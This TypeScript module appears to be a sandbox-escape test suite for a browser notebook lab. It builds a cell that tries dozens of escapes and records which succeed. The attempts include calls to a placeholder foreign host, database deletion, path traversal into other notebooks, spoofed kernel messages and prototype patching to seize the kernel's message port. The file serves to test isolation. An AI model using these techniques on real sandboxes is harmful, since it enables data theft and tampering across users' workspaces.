// Ways out of a cell. Each is the body of an async function, which gives something true where it got out, and throws or gives
// nothing where it was refused. FOREIGN, OWN, OTHER stand for another server's address, the lab's, another notebook's id.

export interface Escape {
  name: string;
  code: string;
}

/** A worker made of a text, which says what it could do. */
const worker = (inside: string, options = "") =>
  `const address = URL.createObjectURL(new Blob([${JSON.stringify(inside)}], { type: "text/javascript" }));
const worker = new Worker(address${options});
return await new Promise((resolve, reject) => { worker.onmessage = ({ data }) => resolve(data); worker.onerror = () => reject(new Error("error")); })`;

const database = `const database = await new Promise((resolve, reject) => {
  const request = indexedDB.open("tinycnn-lab");
  request.onsuccess = () => resolve(request.result);
  request.onerror = () => reject(request.error);
});`;

/** Where the kernel's own calls go past a function or accessor that the cell has put in the way. */
const overheard = (inTheWay: string) => `let heard = null;
${inTheWay}
console.log("x");
await new Promise((resolve) => setTimeout(resolve, 150));
await files.list();
if (!heard) return;
heard.postMessage({ type: "done", run: 1, status: "ok", seconds: 1, variables: [], gauge: { device: "spoofed", threads: 1, bytes: 0, stepsPerSecond: 0 } });
return "the kernel's port"`;

const patched = (object: string, method: string) =>
  overheard(`const before = ${object}[${method}], { apply } = Reflect, Port = MessagePort;
undo.push(() => { ${object}[${method}] = before; });
const look = (value, deep) => {
  if (value instanceof Port) heard = value;
  else if (deep && value) for (let i = 0; i < value.length && i < 4; i++) look(value[i], deep - 1);
};
${object}[${method}] = function () {
  look(this, 2);
  look(arguments, 3);
  return apply(before, this, arguments);
};`);

const accessor = (key: string) =>
  overheard(`Object.defineProperty(Object.prototype, ${JSON.stringify(key)}, {
  configurable: true,
  get() { if (this instanceof MessagePort || this?.target instanceof MessagePort) heard = this.target ?? this; return undefined; },
  set(value) { if (value instanceof MessagePort) heard = value; Object.defineProperty(this, ${JSON.stringify(key)}, { value, writable: true, configurable: true, enumerable: true }); },
});
undo.push(() => { delete Object.prototype[${JSON.stringify(key)}]; });`);

export const escapes: Escape[] = [
  // Storage of the page and of other notebooks
  { name: "other notebooks by IndexedDB", code: `${database}\nreturn "opened " + database.name` },
  {
    name: "deleting the database",
    code: `return await new Promise((resolve, reject) => { const r = indexedDB.deleteDatabase("tinycnn-lab"); r.onsuccess = r.onblocked = () => resolve("deleted"); r.onerror = () => reject(r.error); })`,
  },
  { name: "the list of databases", code: "return (await indexedDB.databases()).length + 1" },
  { name: "the cache of the page's scripts", code: `return await caches.open("tinycnn-lab")` },
  { name: "the list of caches", code: "return (await caches.keys()).length + 1" },
  { name: "the origin's file system", code: "return await navigator.storage.getDirectory()" },
  {
    name: "the origin's old file system",
    code: "return await new Promise((resolve, reject) => webkitRequestFileSystem(0, 1024, resolve, reject))",
  },
  {
    name: "persistent storage",
    code: "return (await navigator.storage.persist()) || (await navigator.storage.estimate()).usage > 100000",
  },
  { name: "cookies", code: `await cookieStore.set("cell", "was here"); return "set"` },
  { name: "local storage", code: "return localStorage || sessionStorage" },
  { name: "locks", code: `return await navigator.locks.request("tinycnn", () => "held")` },
  // Other pages
  {
    name: "a channel to the page",
    code: `new BroadcastChannel("tinycnn-files").postMessage("cell"); return "sent"`,
  },
  {
    name: "the service worker",
    code: `return await navigator.serviceWorker.getRegistration() || navigator.serviceWorker.controller`,
  },
  { name: "a shared worker", code: `return new SharedWorker(OWN + "sw.js")` },
  { name: "a notification", code: `return new Notification("cell")` },
  {
    name: "the page's own files as a document",
    code: `return await (await fetch(new URL("index.html", location.href === "about:blank" ? OWN : OWN))).text()`,
  },
  // Workers
  { name: "a worker of a blob", code: worker("postMessage('ran')") },
  { name: "a module worker of a blob", code: worker("postMessage('ran')", `, { type: "module" }`) },
  { name: "a worker of a data address", code: `return new Worker("data:text/javascript,postMessage(1)")` },
  { name: "a worker of the page's script", code: `return new Worker(OWN + "sw.js")` },
  {
    name: "a worker's constructor by its prototypes",
    code: `for (let at = globalThis; at; at = Object.getPrototypeOf(at))
  for (const key of Reflect.ownKeys(at)) {
    const d = Object.getOwnPropertyDescriptor(at, key);
    if (typeof d.value === "function" && /Worker$/.test(d.value.name) && d.value.prototype && "terminate" in d.value.prototype) return "found " + String(key);
  }`,
  },
  { name: "importScripts, foreign", code: "importScripts(FOREIGN); return globalThis.foreign" },
  {
    name: "importScripts, a blob",
    code: `importScripts(URL.createObjectURL(new Blob(["globalThis.foreign = 1"]))); return globalThis.foreign`,
  },
  // Network
  { name: "a foreign fetch", code: `return (await fetch(FOREIGN, { mode: "no-cors" })).type` },
  { name: "a foreign fetch with CORS", code: "return (await fetch(FOREIGN)).status" },
  { name: "a fetch of the lab's server", code: `return (await fetch(OWN + "index.html?cell")).status` },
  {
    name: "a fetch of a data set",
    code: `return (await fetch(OWN + "data/fashion-mnist/t10k-labels-idx1-ubyte?cell")).status`,
  },
  {
    name: "a request as in old days",
    code: `const request = new XMLHttpRequest(); request.open("GET", FOREIGN, false); request.send(); return "sent"`,
  },
  {
    name: "a WebSocket",
    code: `return await new Promise((resolve, reject) => { const s = new WebSocket(FOREIGN.replace("http", "ws")); s.onopen = () => resolve("open"); s.onerror = reject; })`,
  },
  {
    name: "an event source",
    code: `return await new Promise((resolve, reject) => { const s = new EventSource(FOREIGN); s.onopen = () => resolve("open"); s.onerror = reject; })`,
  },
  {
    name: "a WebTransport",
    code: `const t = new WebTransport(FOREIGN.replace("http:", "https:")); await t.ready; return "ready"`,
  },
  {
    name: "WebRTC",
    code: `const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] }); return c`,
  },
  { name: "a beacon", code: `return navigator.sendBeacon(FOREIGN, "x")` },
  {
    name: "importing from elsewhere",
    code: "return (await new Function('a', 'return import(a)')(FOREIGN)).default",
  },
  {
    name: "importing a data address",
    code: `return (await new Function('a', 'return import(a)')("data:text/javascript,export default 1")).default`,
  },
  {
    name: "importing the lab's own script",
    code: `return await new Function('a', 'return import(a)')(OWN + "sw.js")`,
  },
  {
    name: "a font from elsewhere",
    code: `const face = new FontFace("x", "url(" + FOREIGN + ")"); await face.load(); return "loaded"`,
  },
  // What the kernel holds
  {
    name: "a spoofed done",
    code: `postMessage({ type: "done", run: 1, status: "ok", seconds: 0 }); return "sent"`,
  },
  {
    name: "a spoofed done by the scope's prototype",
    code: `for (let at = globalThis; at; at = Object.getPrototypeOf(at)) if (Object.hasOwn(at, "postMessage") && at.postMessage) { at.postMessage.call(self, { type: "done", run: 1 }); return "sent"; }`,
  },
  {
    name: "a message to oneself in the page's name",
    code: `let ran = false; globalThis.proof = () => { ran = true; };
dispatchEvent(new MessageEvent("message", { data: { type: "run", run: 99, file: "x.ts", code: "proof()", names: [] } }));
dispatchEvent(new MessageEvent("message", { data: { flag: null, thread: new Blob([]), port: new MessageChannel().port1 } }));
await new Promise((resolve) => setTimeout(resolve, 100)); return ran`,
  },
  { name: "a port's own function in the way", code: patched("MessagePort.prototype", `"postMessage"`) },
  {
    name: "a message's data in the way",
    code: overheard(`const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data");
undo.push(() => Object.defineProperty(MessageEvent.prototype, "data", data));
Object.defineProperty(MessageEvent.prototype, "data", { configurable: true, get() { if (this.target instanceof MessagePort) heard = this.target; return data.get.call(this); } });`),
  },
  { name: "call in the way", code: patched("Function.prototype", `"call"`) },
  { name: "apply in the way", code: patched("Function.prototype", `"apply"`) },
  { name: "Reflect.apply in the way", code: patched("Reflect", `"apply"`) },
  { name: "the array's iterator in the way", code: patched("Array.prototype", "Symbol.iterator") },
  { name: "a promise's then in the way", code: patched("Promise.prototype", `"then"`) },
  { name: "a map's set in the way", code: patched("Map.prototype", `"set"`) },
  ...["port", "data", "type", "run", "0", "transfer", "target"].map((key) => ({
    name: `Object.prototype.${key} in the way`,
    code: accessor(key),
  })),
  {
    name: "the kernel's functions by the stack",
    code: `const before = Error.prepareStackTrace;
undo.push(() => { Error.prepareStackTrace = before; });
Error.prepareStackTrace = (_, sites) => sites;
const found = [];
const look = () => { const { stack } = new Error("x"); if (Array.isArray(stack)) for (const site of stack) found.push(site.getFunction?.(), site.getThis?.()); };
await display({ [Symbol.for("Jupyter.display")]: () => { look(); return { "text/plain": "x" }; } });
return found.some((x) => typeof x === "function" && !/\\$tick/.test(String(x)))`,
  },
  {
    name: "the kernel's functions by their callee",
    code: `let caller = null;
await display({ [Symbol.for("Jupyter.display")]: new Function("this.caller = arguments.callee.caller; globalThis.gotCaller = arguments.callee.caller; return { 'text/plain': 'x' }") });
caller = globalThis.gotCaller;
return typeof caller === "function" && !/Jupyter/.test(String(caller)) && caller`,
  },
  { name: "closing the kernel", code: `close(); return "closed"` },
  // Through the page
  {
    name: "weights of another notebook",
    code: `for (const name of ["../" + OTHER + "/model", OTHER + "/model", "/" + OTHER + "/model", "model\\u0000"]) {
  const got = await savedWeights(name).catch(() => null);
  if (got) return "got " + name;
}`,
  },
  {
    name: "a data set's address that leads elsewhere",
    code: `return await loadDataset("../../" + OTHER).catch(() => null)`,
  },
  { name: "a file by a path", code: `return await files.text("../notebooks/" + OTHER).catch(() => null)` },
  { name: "a photo by an address", code: `return await readPhoto(FOREIGN).catch(() => null)` },
];

/** One cell that tries them all. Its output: a JSON object, name to what it got or why not. */
export const cellOf = (
  tried: readonly Escape[],
  places: Record<"FOREIGN" | "OWN" | "OTHER", string>,
): string => `import { display, files, loadDataset, readPhoto, savedWeights } from "@tinycnn/lab";
const FOREIGN = ${JSON.stringify(places.FOREIGN)}, OWN = ${JSON.stringify(places.OWN)}, OTHER = ${JSON.stringify(places.OTHER)};
const undo: (() => void)[] = [];
const attempts: Record<string, () => Promise<unknown>> = {
${tried.map(({ name, code }) => `${JSON.stringify(name)}: async () => {\n${code}\n},`).join("\n")}
};
const results: Record<string, string> = {};
for (const [name, attempt] of Object.entries(attempts)) {
  const late = new Promise((resolve) => setTimeout(resolve, 1500, null));
  try {
    const got = await Promise.race([attempt(), late]);
    results[name] = got ? "ESCAPED: " + String(got).slice(0, 100) : "refused";
  } catch (error) {
    results[name] = "refused: " + String(error).slice(0, 100);
  }
  for (const back of undo.splice(0)) back();
}
await display({ [Symbol.for("Jupyter.display")]: () => ({ "text/plain": "RESULTS" + JSON.stringify(results) + "END" }) });`;
